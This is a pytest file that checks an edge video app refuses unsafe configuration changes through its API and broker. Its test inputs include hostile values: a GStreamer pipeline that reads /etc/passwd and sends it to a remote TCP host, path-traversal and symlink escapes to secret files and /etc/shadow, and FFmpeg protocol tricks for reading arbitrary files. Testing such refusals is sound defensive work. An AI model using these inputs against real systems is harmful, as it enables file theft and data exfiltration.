"""What the API may change (docs/configuration.md): no new pipelines, no paths outside the folders in use."""
import os

import pytest

from edge_app.config.source_spec import SourceKind, parse_source
from edge_app.config.policy import source_file, unsafe_changes
from edge_app.config.file import ConfigError, merge_patch, parse_config


@pytest.fixture
def tree(tmp_path):
    """media/ with a clip, models/ with a model and labels, and a secret file beside them."""
    for name in ("media/clip.mp4", "media/sub/other.mp4", "models/m.onnx", "models/labels.txt", "secret.yaml"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    os.symlink(tmp_path / "secret.yaml", tmp_path / "media" / "link.mp4")
    return tmp_path


def config(tree, **patch):
    base = {
        "cameras": [{"id": "a", "source": str(tree / "media" / "clip.mp4")}, {"id": "b", "source": "rtsp://10.0.0.5/s"}],
        "model": {"path": str(tree / "models" / "m.onnx"), "engine_dir": str(tree / "models" / "engines")},
    }
    return parse_config(merge_patch(base, patch))


def locs(problems):
    return [p.loc for p in problems]


def with_source(tree, source):
    return config(tree, cameras=[{"id": "a", "source": str(tree / "media" / "clip.mp4")}, {"id": "b", "source": source}])


@pytest.mark.parametrize(
    "source",
    [
        "gst:filesrc location=/etc/passwd ! tcpclientsink host=10.9.9.9 port=9 videotestsrc ! appsink",
        "GST:videotestsrc ! appsink",
        "csi://0",
        "{tree}/secret.yaml",
        "file://{tree}/secret.yaml",
        "{tree}/media/../secret.yaml",
        "{tree}/media/link.mp4",  # a symbolic link out of the media folder
        "/etc/passwd",
    ],
)
def test_new_pipeline_and_outside_file_sources_are_refused(tree, source):
    old = config(tree)
    problems = unsafe_changes(old, with_source(tree, source.format(tree=tree)), tree)
    assert locs(problems) == ["cameras.1.source"]
    assert "allow_unsafe_sources" in problems[0].msg


@pytest.mark.parametrize(
    "source",
    ["rtsp://10.0.0.9/x", "http://cam/x.mjpg", "test://box", "/dev/video1", "{tree}/media/sub/other.mp4", "file://{tree}/media/clip.mp4"],
)
def test_network_test_device_and_media_folder_sources_are_allowed(tree, source):
    assert unsafe_changes(config(tree), with_source(tree, source.format(tree=tree)), tree) == []


def test_relative_paths_resolve_against_the_working_directory(tree):
    old = config(tree, cameras=[{"id": "a", "source": "media/clip.mp4"}])
    assert unsafe_changes(old, config(tree, cameras=[{"id": "a", "source": "media/sub/other.mp4"}]), tree) == []
    problems = unsafe_changes(old, config(tree, cameras=[{"id": "a", "source": "media/../secret.yaml"}]), tree)
    assert locs(problems) == ["cameras.0.source"]


def test_sources_already_configured_stay_allowed(tree):
    old = config(tree, cameras=[{"id": "g", "source": "gst:videotestsrc ! appsink"}])
    new = config(tree, cameras=[{"id": "g", "source": "gst:videotestsrc ! appsink", "fps_limit": 2}])
    assert unsafe_changes(old, new, tree) == []


@pytest.mark.parametrize(
    "patch, loc",
    [
        ({"model": {"path": "{tree}/secret.onnx"}}, "model.path"),
        ({"model": {"labels": "{tree}/secret.yaml"}}, "model.labels"),
        ({"model": {"labels": "{tree}/models/../secret.yaml"}}, "model.labels"),
        ({"model": {"engine_dir": "/tmp"}}, "model.engine_dir"),
        ({"model": {"calibration_dir": "/etc"}}, "model.calibration_dir"),
        ({"mqtt": {"tls": {"ca_certs": "/etc/shadow"}}}, "mqtt.tls.ca_certs"),
        ({"events": {"dir": "/etc"}}, "events.dir"),
        ({"events": {"dir": "{tree}/events/../models"}}, "events.dir"),
        ({"api": {"allow_unsafe_sources": True}}, "api.allow_unsafe_sources"),
    ],
)
def test_paths_outside_their_folders_and_the_unsafe_switch_are_refused(tree, patch, loc):
    patch = {section: {k: (v.format(tree=tree) if isinstance(v, str) else v) for k, v in values.items()}
             for section, values in patch.items()}
    assert loc in locs(unsafe_changes(config(tree), config(tree, **patch), tree))


def test_paths_inside_their_folders_are_allowed(tree):
    new = config(tree, model={"path": str(tree / "models" / "other.onnx"), "labels": str(tree / "models" / "labels.txt"),
                              "engine_dir": str(tree / "models" / "engines" / "v2"), "calibration_dir": str(tree / "models" / "calib")})
    assert unsafe_changes(config(tree), new, tree) == []


def test_events_dir_may_move_below_its_folder_only(tree):
    old = config(tree, events={"dir": str(tree / "events")})
    assert unsafe_changes(old, config(tree, events={"dir": str(tree / "events" / "2026")}), tree) == []
    assert locs(unsafe_changes(old, config(tree, events={"dir": str(tree)}), tree)) == ["events.dir"]


def test_record_dir_may_move_below_its_folder_only(tree):
    old = config(tree, record={"dir": str(tree / "recordings")})
    assert unsafe_changes(old, config(tree, record={"dir": str(tree / "recordings" / "disk2")}), tree) == []
    for outside in (str(tree), "/etc", str(tree / "recordings" / ".." / "models")):
        assert locs(unsafe_changes(old, config(tree, record={"dir": outside}), tree)) == ["record.dir"], outside


def test_the_file_on_disk_can_allow_everything_but_not_be_switched_off_through_the_api(tree):
    old = config(tree, api={"allow_unsafe_sources": True})
    new = config(tree, api={"allow_unsafe_sources": True}, model={"labels": "/etc/hostname"},
                 cameras=[{"id": "g", "source": "gst:videotestsrc ! appsink"}])
    assert unsafe_changes(old, new, tree) == []
    assert locs(unsafe_changes(old, config(tree), tree)) == ["api.allow_unsafe_sources"]


def test_changes_from_the_broker_are_limited_even_when_the_file_allows_everything(tree):
    """honour_allow_unsafe=False (R/config/desired): the file's switch trusts API clients, not the broker."""
    old = config(tree, api={"allow_unsafe_sources": True})
    new = config(tree, api={"allow_unsafe_sources": True}, model={"labels": "/etc/hostname"},
                 cameras=[{"id": "g", "source": "gst:videotestsrc ! appsink"}])
    assert sorted(locs(unsafe_changes(old, new, tree, honour_allow_unsafe=False))) == ["cameras.0.source", "model.labels"]


@pytest.mark.parametrize("source, expected", [
    ("/data/x.mp4", "/data/x.mp4"), ("file:///data/x.mp4", "/data/x.mp4"), ("file://host/data/x.mp4", "/data/x.mp4"),
    ("clip.mp4", "./clip.mp4"), ("file:/data/x.mp4", "/data/x.mp4"), ("file:clip.mp4", "./clip.mp4"),
    ("./a:b.mp4", "./a:b.mp4"), ("file:concat:a|b", "./concat:a|b"), ("rtsp://h/s", None), ("http://h/x", None), ("test://bars", None),
    ("/dev/video2", None), ("csi://0", None), ("gst:videotestsrc ! appsink", None), ("GST:x ! appsink", None),
])
def test_source_file_names_what_capture_would_open_as_a_file(source, expected):
    """The policy sees a file wherever capture would open one: both use config.sources.parse_source."""
    assert source_file(source) == expected
    spec = parse_source(source)
    assert (spec.kind is SourceKind.FILE) == (expected is not None)


FFMPEG_PROTOCOLS = ["concat:/etc/hostname|clip.mp4", "concatf:list.txt", "subfile,,start,0,end,64,,:/etc/hostname",
                    "data:video/mp4;base64,AAAAIGZ0eXA=", "pipe:0", "fd:3", "crypto:/etc/hostname", "async:/etc/hostname",
                    "cache:/etc/hostname", "tee:x", "md5:/etc/hostname", "unix:/run/x.sock", "a:b.mp4"]


@pytest.mark.parametrize("source", ["/dev/video0/../../etc/passwd", "ftp://h/x", "test://ball", "csi://front", "gst:videotestsrc",
                                    *FFMPEG_PROTOCOLS])
def test_sources_capture_would_refuse_are_refused_by_the_configuration(source):
    with pytest.raises(ConfigError, match="cameras.0.source"):
        parse_config({"cameras": [{"id": "c", "source": source}], "model": {"path": "m.onnx"}})


@pytest.mark.parametrize("source", ["file:/etc/hostname", "FILE:/etc/hostname", "file:../elsewhere.yaml"])
def test_ffmpegs_file_prefix_is_judged_by_the_file_it_opens(tree, monkeypatch, source):
    """A camera file in the working directory (as in configs/demo.yaml) made it the media folder,
    and ``file:/abs`` resolved as a file inside it while FFmpeg opened the absolute path."""
    monkeypatch.chdir(tree)
    (tree / "clip.mp4").write_text("x")
    old = config(tree, cameras=[{"id": "a", "source": "clip.mp4"}])
    new = config(tree, cameras=[{"id": "a", "source": "clip.mp4"},
                                {"id": "b", "source": source, "enabled": False}])
    problems = unsafe_changes(old, new, tree)
    assert locs(problems) == ["cameras.1.source"], problems
    assert unsafe_changes(old, config(tree, cameras=[{"id": "a", "source": "clip.mp4"},
                                                     {"id": "b", "source": "file:media/clip.mp4"}]), tree) == []
